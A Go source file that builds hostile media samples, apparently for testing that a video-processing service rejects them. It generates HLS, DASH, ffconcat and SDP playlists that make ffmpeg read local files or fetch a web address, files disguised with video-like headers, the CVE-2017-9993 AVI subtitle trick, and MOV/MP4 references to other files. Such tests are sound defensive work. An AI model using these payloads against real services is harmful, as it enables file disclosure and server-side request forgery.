package hostile

import (
	"fmt"
	"slices"
	"strings"
)

// NotAVideo is the end of everything in Lists.
const NotAVideo = "not_a_video"

// Lists are texts that ffmpeg takes for videos and that name other files. None
// of them looks like a video at its beginning.
func Lists(b Bait) []Sample {
	web := "http://" + b.Address + "/segment.mp4"
	texts := []struct{ name, text string }{
		{"HLS with the path of another film", hls(b.File)},
		{"HLS with a film of the same folder", hls(b.Neighbour)},
		{"HLS with a file address", hls("file://" + b.File)},
		{"HLS with a web address", hls(web)},
		{"HLS with a web address joined to a file", hls("concat:" + web + "|file:" + b.File)},
		{"HLS with a part of another file", hls("subfile,,start,0,end,9000,,:" + b.File)},
		{"HLS with a list inside an address", hls("data:text/plain," + strings.ReplaceAll(hls(b.File), "\n", "%0A"))},
		{"HLS with a key on the web", "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-KEY:METHOD=AES-128,URI=\"" + web + "\"\n#EXTINF:1,\n" + b.File + "\n#EXT-X-ENDLIST\n"},
		{"HLS with another list on the web", "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttp://" + b.Address + "/list.m3u8\n"},
		{"DASH with the path of another film", dash(b.File)},
		{"DASH with a web address", dash(web)},
		{"ffconcat with the path of another film", "ffconcat version 1.0\nfile '" + b.File + "'\n"},
		{"ffconcat with a film of the same folder", "ffconcat version 1.0\nfile " + b.Neighbour + "\n"},
		{"ffconcat with a web address", "ffconcat version 1.0\nfile " + web + "\n"},
		{"SDP that asks for a stream", sdp},
		{"VobSub that names a file beside it", "# VobSub index file, v7 (do not modify this line!)\nsize: 720x576\nid: en, index: 0\ntimestamp: 00:00:00:000, filepos: 000000000\n"},
	}
	var samples []Sample
	for _, t := range texts {
		samples = append(samples, Sample{Name: t.name, Ends: []string{NotAVideo}, Make: func() []byte { return []byte(t.text) }})
	}
	return samples
}

// sdp asks to listen for a stream that somebody sends.
const sdp = "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n"

func hls(segment string) string {
	return "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1,\n" + segment + "\n#EXT-X-ENDLIST\n"
}

func dash(segment string) string {
	return `<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011" type="static" mediaPresentationDuration="PT1S">` +
		`<Period><AdaptationSet mimeType="video/mp4" contentType="video"><Representation id="v" bandwidth="1000" width="64" height="64">` +
		`<BaseURL>` + segment + `</BaseURL></Representation></AdaptationSet></Period></MPD>` + "\n"
}

// Dressed are lists and references in files that begin like a video, so that the
// check of their first bytes accepts them.
func Dressed(b Bait) []Sample {
	web := "http://" + b.Address + "/segment.mp4"
	none := []string{NotAVideo, noVideo, corrupt, truncated}
	dressed := []struct {
		name string
		ends []string
		make func() []byte
	}{
		{"DASH behind a comment that reads as an MP4 box", none, func() []byte { return []byte("<!--mdat-->" + dash(b.File)) }},
		{"DASH with a web address behind such a comment", none, func() []byte { return []byte("<!--mdat-->" + dash(web)) }},
		{"DASH behind a comment that reads as a transport stream", none, func() []byte { return []byte(asTransport(dash(b.File))) }},
		{"DASH with a web address behind such a transport stream", none, func() []byte { return []byte(asTransport(dash(web))) }},
		{"SDP that reads as an MP4 box", none, func() []byte { return []byte(strings.Replace(sdp, "\n", "\nmdat\n", 1)) }},
		{"HLS as the subtitle of an AVI", none, func() []byte { return subtitledAVI(hls(b.File)) }},
		{"HLS with a web address as the subtitle of an AVI", none, func() []byte { return subtitledAVI(hls(web)) }},
		{"ffconcat as the subtitle of an AVI", none, func() []byte { return subtitledAVI("ffconcat version 1.0\nfile " + b.Neighbour + "\n") }},
		{"MP4 whose pictures are in another file, by address", []string{corrupt, Converted}, func() []byte {
			return elsewhere(fullBox("url ", []byte("file://"+b.File+"\x00")))
		}},
		{"MOV whose pictures are in a file beside it, by alias", []string{corrupt}, func() []byte { return elsewhere(alias("/"+b.Neighbour, 1)) }},
		{"MOV whose pictures are in another file, by alias", []string{corrupt}, func() []byte { return elsewhere(alias(b.File, 0)) }},
		{"MOV that only refers to another one", none, func() []byte {
			reference := fullBox("rdrf", []byte("url "), be32(uint32(len(b.File)+1)), []byte(b.File+"\x00"))
			return slices.Concat(box("ftyp", []byte("qt  \x00\x00\x02\x00qt  ")), box("moov", box("rmra", box("rmda", reference))))
		}},
	}
	var samples []Sample
	for _, d := range dressed {
		samples = append(samples, Sample{Name: d.name, Ends: d.ends, Make: d.make})
	}
	return samples
}

// asTransport hides a text behind a comment in which the byte that begins each
// packet of a transport stream stands where the first five packets would begin.
func asTransport(text string) string {
	const packet, packets = 192, 5
	comment := []byte("<!--" + strings.Repeat(" ", packet*packets) + "-->")
	for i := range packets {
		comment[4+i*packet] = 'G'
	}
	return string(comment) + text
}

// subtitledAVI is the file of CVE-2017-9993: an AVI whose only stream is a
// subtitle in a wrapper called GAB2, which ffmpeg probes like a file of its own.
func subtitledAVI(subtitle string) []byte {
	chunk := func(name string, parts ...[]byte) []byte {
		body := slices.Concat(parts...)
		if len(body)%2 != 0 {
			body = append(body, 0)
		}
		return slices.Concat([]byte(name), le32(uint32(len(body))), body)
	}
	main := slices.Concat(le32(40_000), make([]byte, 8), le32(16), le32(125), make([]byte, 4), le32(2), make([]byte, 4), le32(224), le32(160), make([]byte, 16))
	header := slices.Concat([]byte("txts"), make([]byte, 16), le32(1), le32(25), make([]byte, 4), le32(125), le32(902), le32(10_000), make([]byte, 8), le16(224), le16(160))
	format := slices.Concat(le32(40), le32(224), le32(160), le16(1), le16(24), []byte("XVID"), le32(215_040), make([]byte, 16))
	streams := chunk("LIST", []byte("strl"), chunk("strh", header), chunk("strf", format))
	text := chunk("00tx", []byte("GAB2\x00\x02\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"), []byte(subtitle))
	return slices.Concat([]byte("RIFF"), le32(0), []byte("AVI "),
		chunk("LIST", []byte("hdrl"), chunk("avih", main), streams),
		chunk("LIST", []byte("movi"), text))
}

// elsewhere is a video of ten frames that are said to lie in another file.
func elsewhere(reference []byte) []byte {
	still := PNG(64, 64)
	return movie(still, track{width: 64, height: 64, count: 10, size: uint32(len(still)) / 10, reference: reference})
}

// alias is how the old Macintosh points to a file: by its absolute path, or, with
// levels, by how many folders to go up and down from here.
func alias(path string, levels uint16) []byte {
	const volume = "\x04Disk"
	var name [64]byte
	copy(name[:], fmt.Sprintf("%c%s", len("film"), "film"))
	padded := path
	if len(padded)%2 != 0 {
		padded += "\x00"
	}
	return fullBox("alis", make([]byte, 10), []byte(volume), make([]byte, 28-len(volume)), make([]byte, 12), name[:],
		make([]byte, 16), be16(levels), be16(levels), make([]byte, 16),
		be16(2), be16(uint16(len(padded))), []byte(padded), be16(0xffff), be16(0), make([]byte, 32))
}
